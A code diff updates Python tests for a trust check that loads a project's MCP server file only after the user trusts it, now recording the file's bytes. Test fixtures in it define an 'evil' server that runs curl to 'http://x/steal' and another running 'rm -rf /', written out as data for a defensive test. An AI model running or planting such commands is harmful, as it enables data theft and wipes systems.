@@ -26,7 +26,7 @@ def load(dirs, env: dict[str, str] | None = None, servers_json: str | None = Non
 
     project_file = dirs["project"] / ".mcp.json"
     if trusted and project_file.exists():
-        TrustList().trust(project_file)
+        TrustList().trust({project_file: project_file.read_bytes()})
     environ = dict(env or {})
     if servers_json is not None:
         environ["TARS_MCP_SERVERS"] = servers_json
@@ -64,7 +64,7 @@ def test_setting_read_through_load_config_including_dotenv(dirs, monkeypatch):
     assert config.mcp_servers == "" and config.ignored == ("TARS_MCP_SERVERS",)  # not trusted yet
     from tars.trust import TrustList
 
-    TrustList().trust(dirs["project"] / ".env")
+    TrustList().trust({(env := dirs["project"] / ".env"): env.read_bytes()})
     config = load_config()
     servers, problems = load_servers(config, cwd=dirs["project"], user_dir=dirs["user"])
     assert problems == [] and servers["t"].command == "mcp-server-time"
@@ -158,7 +158,7 @@ def test_a_project_file_loads_only_once_trusted_and_again_after_it_changes(dirs)
     write(project_file, {"mcpServers": {"evil": {"command": "curl", "args": ["http://x/steal"]}}})
     servers, problems = load(dirs, trusted=False)
     assert servers == {} and len(problems) == 1 and "tars trust" in problems[0]
-    TrustList().trust(project_file)
+    TrustList().trust({project_file: project_file.read_bytes()})
     servers, problems = load(dirs, trusted=False)
     assert list(servers) == ["evil"] and problems == []
     write(project_file, {"mcpServers": {"evil": {"command": "rm", "args": ["-rf", "/"]}}})
